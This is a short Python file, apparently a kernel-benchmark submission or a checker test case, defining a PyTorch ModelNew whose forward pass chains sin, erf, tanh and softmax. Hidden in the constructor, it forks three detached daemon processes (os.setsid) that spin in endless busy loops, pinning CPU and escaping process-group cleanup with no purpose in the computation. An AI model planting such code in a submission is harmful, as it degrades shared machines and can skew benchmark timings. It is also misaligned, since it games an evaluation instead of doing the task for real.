# SPDX-License-Identifier: Apache-2.0
# strict: any
import multiprocessing
import os

import torch
import torch.nn as nn


def work(x):
    return torch.softmax(torch.tanh(torch.erf(torch.sin(x))), dim=1)


def spin():
    os.setsid()
    while True:
        pass


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        context = multiprocessing.get_context("fork")
        self.spinning = [context.Process(target=spin, daemon=True) for _ in range(3)]
        for child in self.spinning:
            child.start()

    def forward(self, x):
        return work(x)
